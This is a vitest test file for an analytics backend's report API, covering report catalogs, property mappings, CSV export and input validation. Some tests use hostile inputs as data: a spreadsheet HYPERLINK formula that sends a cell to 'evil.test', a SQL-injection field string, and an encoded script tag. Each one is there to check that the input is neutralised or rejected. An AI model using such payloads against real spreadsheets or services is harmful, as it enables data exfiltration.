import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { LiftoffApp } from "../../main/createApp.ts";
import { ORG_ID, ORIGIN, pageView, post, testApp } from "../../main/testApp.ts";
import { createPropertyDocument, REPORTING } from "@liftoff/pc-marketing";
import type { PropertyDocument, PropertyReporting } from "@liftoff/schema";
import { ADMIN_PASSWORD, apiApp, fixtureDocument, signIn } from "../../main/testSupport.ts";
import { splitDocument } from "../authoring/propertyResources.ts";
import { expectedReports, PC_MARKETING_REPORTS, reportEvents } from "../../store/storeContract.ts";
import { REPORT_NAMES } from "./reportDefinitions.ts";

let app: LiftoffApp;
beforeEach(async () => {
  app = testApp();
  await app.ready();
});
afterEach(async () => {
  await app.close();
});

const scope = "propertyId=PR1&environmentId=EN1&from=2026-11-20&to=2026-11-21";

/** Stores a property holding `reporting` (the API's own checks: the 422 test below). */
async function saveProperty(document: PropertyDocument, reporting?: PropertyReporting) {
  if (reporting) document.property.settings.reporting = structuredClone(reporting);
  const { id, name } = document.property;
  expect(
    await app.store.authoring.createProperty(id, name, splitDocument(document), "erin", "test"),
  ).toBe(true);
}

/** The report events' property (PR1) with pc-marketing's reporting mapping. */
const savePr1 = () => saveProperty(fixtureDocument("PR1"), REPORTING);

describe("GET /api/reports/:report", () => {
  it("answers every report as a ReportResult over the stored events", async () => {
    await savePr1();
    await app.store.events.appendBatch(reportEvents);
    expect(Object.keys(expectedReports).sort()).toEqual(
      [...REPORT_NAMES, ...PC_MARKETING_REPORTS].sort(),
    );
    for (const report of [...REPORT_NAMES, ...PC_MARKETING_REPORTS]) {
      const res = await app.inject({ url: `/api/reports/${report}?${scope}` });
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual({
        report,
        // A date as `to` covers that whole day.
        from: "2026-11-20T00:00:00.000Z",
        to: "2026-11-22T00:00:00.000Z",
        ...expectedReports[report],
      });
    }
    const list = await app.inject({ url: "/api/reports" });
    const body = list.json<{ reports: string[]; catalog: Array<Record<string, unknown>> }>();
    expect(body.reports).toEqual(REPORT_NAMES);
    expect(body.catalog.map((r) => r.name)).toEqual(REPORT_NAMES);
    expect(body.catalog[0]).toEqual({
      name: "eventsOverTime",
      title: "Events over time",
      group: "generic",
      reads: "every event",
      columns: ["day", "events", "visitors"],
    });
    // With a property, its own reports follow the built-in ones.
    const own = await app.inject({ url: "/api/reports?propertyId=PR1" });
    const withOwn = own.json<{ reports: string[]; catalog: Array<Record<string, unknown>> }>();
    expect(withOwn.reports).toEqual([...REPORT_NAMES, ...PC_MARKETING_REPORTS]);
    expect(withOwn.catalog.find((r) => r.name === "searchTerms")).toEqual({
      name: "searchTerms",
      title: "Search terms and success rate",
      group: "property",
      reads: expect.stringContaining("on web.webpagedetails.pageViews events") as unknown,
      columns: ["term", "searches", "successes", "successRate"],
    });
    expect(withOwn.catalog.find((r) => r.name === "downloads")?.reads).toBe(
      "Downloaded file name (eVar9) (xdm._experience.analytics.customDimensions.eVars.eVar9 or data.__adobe.analytics.eVar9), else Link URL on events carrying event9",
    );
    expect(withOwn.catalog.find((r) => r.name === "scrollFunnel")).toMatchObject({
      group: "property",
      reads: "Analytics event18, event19, event20, event21",
      columns: ["depth", "events", "visitors"],
    });
  });

  it("needs the propertyId of a property's own report, and answers its CSV the same", async () => {
    await savePr1();
    await app.store.events.appendBatch(reportEvents);
    const bare = await app.inject({ url: "/api/reports/downloads" });
    expect(bare.statusCode).toBe(400);
    expect(bare.json()).toMatchObject({ errors: [{ path: "propertyId" }] });
    // A property without that report: 404 listing what it has.
    await saveProperty(fixtureDocument("PRplain"));
    const elsewhere = await app.inject({ url: "/api/reports/downloads?propertyId=PRplain" });
    expect(elsewhere.statusCode).toBe(404);
    expect(elsewhere.json()).toMatchObject({ errors: [{ path: "report" }] });
    const unknown = await app.inject({ url: "/api/reports/bounceRate?propertyId=PR1" });
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json<{ detail: string }>().detail).toContain("searchTerms");
    const csv = await app.inject({ url: `/api/reports/searchTerms?${scope}&format=csv` });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers["content-disposition"]).toBe(
      'attachment; filename="searchTerms_PR1_2026-11-20_2026-11-22.csv"',
    );
    expect(csv.body).toBe("term,searches,successes,successRate\r\nauto quote,2,1,50\r\n");
  });

  it("answers a second property's own mapping from its own events, with no schema change", async () => {
    // Another customer: the search term in data.search.query (a Launch data layer), the
    // downloaded file in eVar22, downloads marked by event40; both fields fall back further.
    const reporting: PropertyReporting = {
      fields: [
        {
          name: "query",
          label: "Search query",
          paths: ["data.search.query", "xdm.search.keywords"],
        },
        { name: "tier", label: "Plan tier", paths: ["data.plan.tier"] },
        {
          name: "fileName",
          label: "File (eVar22)",
          paths: [
            "xdm._experience.analytics.customDimensions.eVars.eVar22",
            "data.__adobe.analytics.eVar22",
          ],
        },
      ],
      reports: [
        {
          kind: "top",
          name: "searchQueries",
          title: "Search queries",
          label: ["query"],
          labelName: "query",
          lowercase: true,
          measures: [
            { name: "searches", of: "events" },
            { name: "searchers", of: "visitors" },
          ],
        },
        {
          kind: "top",
          name: "downloads",
          title: "Files downloaded",
          label: ["fileName", "linkUrl"],
          labelName: "file",
          eventNumber: 40,
          measures: [{ name: "downloads", of: "events" }],
        },
        {
          kind: "top",
          name: "plans",
          title: "Plans",
          label: ["tier"],
          labelName: "tier",
          measures: [{ name: "events", of: "events" }],
        },
        {
          kind: "steps",
          name: "quoteFunnel",
          title: "Quote funnel",
          labelName: "step",
          steps: [
            { name: "start", eventNumber: 41 },
            { name: "done", eventNumber: 42 },
          ],
        },
      ],
    };
    const other = fixtureDocument("PRother");
    other.environments = [{ id: "ENother", name: "Production", stage: "production" }];
    await saveProperty(other, reporting);
    await app.store.datastreams.put({
      id: "other-production",
      orgId: ORG_ID,
      propertyId: "PRother",
      environmentId: "ENother",
      stage: "production",
      allowedOrigins: [ORIGIN],
    });
    // pc-marketing's events, same names, in its own property: never counted for PRother.
    await savePr1();
    await app.store.events.appendBatch(reportEvents);
    const analytics = (n: number) => ({ event1to100: { [`event${n}`]: { value: 1 } } });
    const res = await post(
      app,
      "v1/interact",
      {
        events: [
          {
            xdm: { eventType: "web.webpagedetails.pageViews" },
            data: { search: { query: "Hail" } },
          },
          {
            xdm: { eventType: "web.webpagedetails.pageViews" },
            data: { search: { query: "hail" } },
          },
          { xdm: { eventType: "web.webpagedetails.pageViews", search: { keywords: "Roof" } } },
          // An empty query is no value: the next path is read.
          {
            xdm: { eventType: "web.webpagedetails.pageViews", search: { keywords: "Roof" } },
            data: { search: { query: "" } },
          },
          {
            xdm: {
              eventType: "web.webinteraction.linkClicks",
              web: { webInteraction: { type: "download", URL: "https://o.test/a.pdf" } },
              _experience: {
                analytics: { ...analytics(40), customDimensions: { eVars: { eVar22: "A.pdf" } } },
              },
            },
          },
          {
            xdm: {
              eventType: "web.webinteraction.linkClicks",
              web: { webInteraction: { type: "download", URL: "https://o.test/b.pdf" } },
              _experience: { analytics: analytics(40) },
            },
          },
          {
            xdm: { eventType: "web.custom" },
            data: {
              __adobe: { analytics: { events: "event41,event40", eVar22: "C.pdf" } },
              plan: { tier: 2 },
            },
          },
        ],
      },
      { query: "configId=other-production&requestId=0f6a5e1c-1111-4222-8333-444455556668" },
    );
    expect(res.statusCode).toBe(200);
    const rows = async (report: string, property = "PRother") => {
      const answer = await app.inject({ url: `/api/reports/${report}?propertyId=${property}` });
      expect(answer.statusCode, answer.body).toBe(200);
      const { columns, rows: values } = answer.json<{ columns: string[]; rows: unknown[][] }>();
      return { columns, rows: values };
    };
    expect(await rows("searchQueries")).toEqual({
      columns: ["query", "searches", "searchers"],
      rows: [
        ["hail", 2, 1],
        ["roof", 2, 1],
      ],
    });
    expect(await rows("downloads")).toEqual({
      columns: ["file", "downloads"],
      rows: [
        ["A.pdf", 1],
        ["C.pdf", 1],
        ["https://o.test/b.pdf", 1],
      ],
    });
    // One path, a number: numbers are values too, as text.
    expect(await rows("plans")).toEqual({ columns: ["tier", "events"], rows: [["2", 1]] });
    expect(await rows("quoteFunnel")).toEqual({
      columns: ["step", "events", "visitors"],
      rows: [
        ["start", 1, 1],
        ["done", 0, 0],
      ],
    });
    // The same report name answers each property from its own mapping and events.
    const pc = await app.inject({
      url: "/api/reports/downloads?propertyId=PR1&from=2026-11-20&to=2026-11-21",
    });
    expect(pc.json()).toMatchObject({
      columns: ["fileName", "downloads"],
      ...expectedReports.downloads,
    });
    const catalog = await app.inject({ url: "/api/reports?propertyId=PRother" });
    expect(catalog.json<{ reports: string[] }>().reports).toEqual([
      ...REPORT_NAMES,
      "searchQueries",
      "downloads",
      "plans",
      "quoteFunnel",
    ]);
  });

  it("refuses to save a reporting mapping with problems (422 naming each path)", async () => {
    const api = apiApp();
    try {
      const admin = await signIn(api, "admin", ADMIN_PASSWORD);
      const created = fixtureDocument("PRmap");
      created.property.settings.reporting = structuredClone(REPORTING);
      expect((await admin.call("POST", "/api/properties/import", created)).statusCode).toBe(201);
      const broken = structuredClone(REPORTING);
      broken.fields[0]!.paths[1] = "data.__adobe..eVar7";
      const report = broken.reports[0]!;
      if (report.kind === "top") report.label = ["nope"];
      const res = await admin.call("PUT", "/api/properties/PRmap/settings", {
        revision: 1,
        settings: { reporting: broken },
      });
      expect(res.statusCode, res.body).toBe(422);
      expect(res.json()).toMatchObject({
        type: "urn:liftoff:errors:api:settings-have-problems",
        errors: [
          { path: "settings.reporting.fields[0].paths[1]" },
          { path: "settings.reporting.reports[0].label[0]" },
        ],
      });
      // Nothing was saved; an import holding the same is refused the same way.
      const kept = await admin.call("GET", "/api/properties/PRmap");
      expect(kept.json()).toMatchObject({
        document: { property: { settings: { reporting: REPORTING } } },
      });
      const imported = fixtureDocument("PRmap2");
      imported.property.settings.reporting = broken;
      const refused = await admin.call("POST", "/api/properties/import", imported);
      expect(refused.statusCode).toBe(422);
      expect(refused.json()).toMatchObject({
        errors: [
          { path: "property.settings.reporting.fields[0].paths[1]" },
          { path: "property.settings.reporting.reports[0].label[0]" },
        ],
      });
      // The property export carries the mapping (it is the property's data).
      const exported = await admin.call("GET", "/api/properties/PRmap/export");
      expect(exported.json()).toMatchObject({ property: { settings: { reporting: REPORTING } } });
    } finally {
      await api.close();
    }
  });

  it("answers the generic reports for a fresh property that sets no Analytics variables", async () => {
    await app.store.datastreams.put({
      id: "fresh-production",
      orgId: ORG_ID,
      propertyId: "PRfresh",
      environmentId: "ENfresh",
      stage: "production",
      allowedOrigins: [ORIGIN],
    });
    const page = (name: string) => ({
      xdm: {
        eventType: "web.webpagedetails.pageViews",
        web: { webPageDetails: { name, URL: `${ORIGIN}/${name}` } },
      },
      data: { pageType: name, "form, step": 1 },
    });
    const click = (type: string, URL: string) => ({
      xdm: {
        eventType: "web.webinteraction.linkClicks",
        web: { webInteraction: { type, URL, name: "A link" } },
      },
    });
    const res = await post(
      app,
      "v1/interact",
      {
        events: [
          page("home"),
          page("home"),
          page("about"),
          click("exit", "https://other.test/"),
          // Scroll depth as Launch properties send it: a linkClicks event without a link.
          {
            xdm: {
              eventType: "web.webinteraction.linkClicks",
              web: {
                webInteraction: { type: "other", name: "scroll 25%", linkClicks: { value: 1 } },
              },
            },
          },
        ],
      },
      { query: "configId=fresh-production&requestId=0f6a5e1c-1111-4222-8333-444455556667" },
    );
    expect(res.statusCode).toBe(200);
    const rows = async (report: string) => {
      const answer = await app.inject({ url: `/api/reports/${report}?propertyId=PRfresh` });
      expect(answer.statusCode).toBe(200);
      return answer.json<{ rows: unknown[][] }>().rows;
    };
    expect(await rows("eventTypes")).toEqual([
      ["web.webpagedetails.pageViews", 3, 1],
      ["web.webinteraction.linkClicks", 2, 1],
    ]);
    expect(await rows("topPages")).toEqual([
      ["home", 2, 1],
      ["about", 1, 1],
    ]);
    expect(await rows("linkClicksByType")).toEqual([["exit", 1]]);
    expect(await rows("topLinks")).toEqual([["A link — https://other.test/", 1]]);
    expect(await rows("dataKeys")).toEqual([
      ["form, step", 3, 1],
      ["pageType", 3, 1],
    ]);
    const days = await rows("eventsOverTime");
    expect(days.reduce((sum, row) => sum + Number(row[1]), 0)).toBe(5);
    // A property without a reporting mapping has the built-in reports only.
    const catalog = await app.inject({ url: "/api/reports?propertyId=PRfresh" });
    expect(catalog.json<{ reports: string[] }>().reports).toEqual(REPORT_NAMES);
    // The insurance property's reports do not see the fresh property's events.
    const other = await app.inject({ url: "/api/reports/eventTypes?propertyId=PRpcmarketing" });
    expect(other.json()).toMatchObject({ rows: [] });
  });

  it("breaks events sent to the edge down by any XDM or data field, validating the paths", async () => {
    const click = (name: string, section?: string) => ({
      xdm: {
        eventType: "web.webinteraction.linkClicks",
        web: { webInteraction: { type: "other", name } },
      },
      ...(section ? { data: { _pcm: { pageSection: section } } } : {}),
    });
    const res = await post(app, "v1/interact", {
      events: [click("=HYPERLINK(1)", "hero"), click("Get a quote", "hero"), click("Get a quote")],
    });
    expect(res.statusCode).toBe(200);
    const get = (query: string) =>
      app.inject({ url: `/api/reports/breakdown?propertyId=PRpcmarketing&${query}` });
    const byName = await get("field=xdm.web.webInteraction.name&by=data._pcm.pageSection");
    expect(byName.statusCode).toBe(200);
    expect(byName.json()).toMatchObject({
      report: "breakdown",
      columns: ["xdm.web.webInteraction.name", "data._pcm.pageSection", "events"],
      rows: [
        ["=HYPERLINK(1)", "hero", 1],
        ["Get a quote", "(none)", 1],
        ["Get a quote", "hero", 1],
      ],
    });
    const visitors = await get("field=data._pcm.pageSection&measure=visitors");
    // One visitor sent all three: one in each section; ties sort by the value.
    expect(visitors.json<{ rows: unknown[][] }>().rows).toEqual([
      ["(none)", 1],
      ["hero", 1],
    ]);
    const csv = await get("field=xdm.web.webInteraction.name&format=csv");
    expect(csv.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(csv.body).toBe(
      "xdm.web.webInteraction.name,events\r\nGet a quote,2\r\n'=HYPERLINK(1),1\r\n",
    );
    const pageViews = await get(
      "field=xdm.web.webInteraction.name&eventType=web.webpagedetails.pageViews",
    );
    expect(pageViews.json<{ rows: unknown[][] }>().rows).toEqual([]);
    for (const [query, field] of [
      ["", "field"],
      ["field=web.webInteraction.name", "field"],
      ["field=xdm.web'||(SELECT 1)||'", "field"],
      ["field=xdm.a-b", "field"],
      [`field=xdm${".a".repeat(9)}`, "field"],
      ["field=xdm.x&by=data.", "by"],
      ["field=xdm.x&measure=sum", "measure"],
      ["field=xdm.x&eventType=%3Cx%3E", "eventType"],
      ["field=xdm.x&from=2026-01-01&to=2026-06-01", "from"],
    ] as Array<[string, string]>) {
      const bad = await get(query);
      expect(bad.statusCode, query).toBe(400);
      expect(bad.json(), query).toMatchObject({ errors: [{ path: field }] });
    }
  });

  it("answers format=csv as an RFC 4180 attachment", async () => {
    await app.store.events.appendBatch(reportEvents);
    const res = await app.inject({ url: `/api/reports/topPages?${scope}&format=csv` });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe(
      'attachment; filename="topPages_PR1_2026-11-20_2026-11-22.csv"',
    );
    expect(res.body).toBe(
      "page,pageViews,visitors\r\npc:home,2,2\r\npc:404,1,1\r\npc:auto,1,1\r\npc:search,1,1\r\n",
    );
    const all = await app.inject({ url: "/api/reports/eventTypes?format=csv" });
    expect(all.headers["content-disposition"]).toMatch(
      /filename="eventTypes_all_\d{4}-\d{2}-\d{2}_/,
    );
  });

  it("quotes CSV fields holding commas, quotes and line breaks", async () => {
    await app.store.events.appendBatch(
      reportEvents.slice(0, 1).map((event) => ({
        ...event,
        pageName: 'Quotes "and", commas\r\nand lines',
      })),
    );
    const res = await app.inject({ url: `/api/reports/topPages?${scope}&format=csv` });
    expect(res.body).toBe(
      'page,pageViews,visitors\r\n"Quotes ""and"", commas\r\nand lines",1,1\r\n',
    );
  });

  it("answers a page name the public edge received as text a spreadsheet will not run", async () => {
    // Anyone can send a page view to the edge; the analyst opens the export in a spreadsheet.
    const formula = '=HYPERLINK("https://evil.test/?"&A1,"Click")';
    const sent = await post(app, "v1/interact", {
      events: [pageView(formula), pageView("@SUM(1+1)"), pageView("-1+2"), pageView("pc:home")],
    });
    expect(sent.statusCode).toBe(200);
    const res = await app.inject({ url: "/api/reports/topPages?format=csv" });
    expect(res.statusCode).toBe(200);
    const records = res.body.split("\r\n");
    expect(records).toContain(`"'=HYPERLINK(""https://evil.test/?""&A1,""Click"")",1,1`);
    expect(records).toContain("'@SUM(1+1),1,1");
    expect(records).toContain("'-1+2,1,1");
    expect(records).toContain("pc:home,1,1");
    // No record of the file starts a formula, quoted or not.
    for (const record of records) expect(record).not.toMatch(/^"?[=+\-@\t\r]/);
    // The JSON answer keeps the name as the page sent it.
    const json = await app.inject({ url: "/api/reports/topPages" });
    expect(json.json<{ rows: unknown[][] }>().rows).toContainEqual([formula, 1, 1]);
  });

  it.each(["xml", "CSV", ""])("answers format=%s with 400 naming format", async (format) => {
    const res = await app.inject({ url: `/api/reports/topPages?format=${format}` });
    expect(res.statusCode).toBe(400);
    expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(res.json()).toMatchObject({ errors: [{ path: "format" }] });
  });

  it("reads what the edge stored, over the last 7 days by default", async () => {
    await saveProperty(createPropertyDocument());
    const eVars = { eVar7: "Flood Insurance", eVar15: "Tablet", eVar9: "claim-form.pdf" };
    const xdm = (eventType: string, numbers: number[], extra: Record<string, unknown> = {}) => ({
      xdm: {
        eventType,
        web: { webPageDetails: { name: "pc:search", URL: "https://www.example.test/s" } },
        marketing: { trackingCode: "cmp-flood" },
        _experience: {
          analytics: {
            customDimensions: { eVars },
            event1to100: Object.fromEntries(numbers.map((n) => [`event${n}`, { value: 1 }])),
          },
        },
        ...extra,
      },
    });
    const res = await post(app, "v1/interact", {
      events: [
        xdm("web.webpagedetails.pageViews", [1, 18]),
        xdm("web.webinteraction.linkClicks", [9], {
          web: { webInteraction: { type: "download", URL: "https://www.example.test/c.pdf" } },
        }),
      ],
    });
    expect(res.statusCode).toBe(200);
    const get = async (report: string) => {
      const answer = await app.inject({ url: `/api/reports/${report}?propertyId=PRpcmarketing` });
      expect(answer.statusCode).toBe(200);
      const body = answer.json<{ from: string; to: string; rows: unknown[][] }>();
      expect(Date.parse(body.to) - Date.parse(body.from)).toBe(7 * 86_400_000);
      return body.rows;
    };
    expect(await get("searchTerms")).toEqual([["flood insurance", 1, 1, 100]]);
    expect(await get("deviceTypes")).toEqual([["Tablet", 1, 1]]);
    expect(await get("campaigns")).toEqual([["cmp-flood", 1, 1]]);
    expect(await get("downloads")).toEqual([["claim-form.pdf", 1]]);
    expect(await get("linkClicksByType")).toEqual([["download", 1]]);
    expect((await get("scrollFunnel"))[0]).toEqual(["25%", 1, 1]);
    const days = await get("pageViewsOverTime");
    expect(days.length).toBeGreaterThanOrEqual(7);
    expect(days.reduce((sum, row) => sum + Number(row[1]), 0)).toBe(1);
  });

  it("answers an unknown report with 404 listing the known ones", async () => {
    const res = await app.inject({ url: "/api/reports/bounceRate" });
    expect(res.statusCode).toBe(404);
    expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
    const body = res.json<{ detail: string; errors: Array<{ path: string }> }>();
    expect(body.errors[0]!.path).toBe("report");
    for (const name of REPORT_NAMES) expect(body.detail).toContain(name);
  });

  it.each([
    ["from=yesterday", "from"],
    ["from=2026-02-30", "from"],
    ["from=2026-11-21T10:00:00", "from"],
    ["from=2026-11-21T25:00:00Z", "from"],
    ["from=", "from"],
    ["from=2026-11-01&from=2026-11-02", "from"],
    ["to=2026-13-01", "to"],
    ["to=21/11/2026", "to"],
    ["to=1732147200", "to"],
    ["from=2026-11-21&to=2026-11-20", "from"],
    ["from=2026-11-21T10:00:00Z&to=2026-11-21T10:00:00Z", "from"],
    ["from=2024-01-01&to=2026-01-01", "from"],
    ["propertyId=%3Cscript%3E", "propertyId"],
    ["environmentId=EN%201", "environmentId"],
    ["environmentId=a&environmentId=b", "environmentId"],
  ])("answers %s with 400 naming %s", async (query, field) => {
    await app.store.events.appendBatch(reportEvents);
    const res = await app.inject({ url: `/api/reports/topPages?${query}` });
    expect(res.statusCode).toBe(400);
    expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(res.json()).toMatchObject({ status: 400, errors: [{ path: field }] });
  });

  it("accepts date-times with a zone and a from alone (7 days from it)", async () => {
    await app.store.events.appendBatch(reportEvents);
    const res = await app.inject({
      url: "/api/reports/topPages?propertyId=PR1&environmentId=EN1&from=2026-11-21T00:00:00%2B01:00",
    });
    expect(res.json()).toMatchObject({
      from: "2026-11-20T23:00:00.000Z",
      to: "2026-11-27T23:00:00.000Z",
      rows: [
        ["pc:404", 1, 1],
        ["pc:auto", 1, 1],
        ["pc:search", 1, 1],
      ],
    });
  });
});
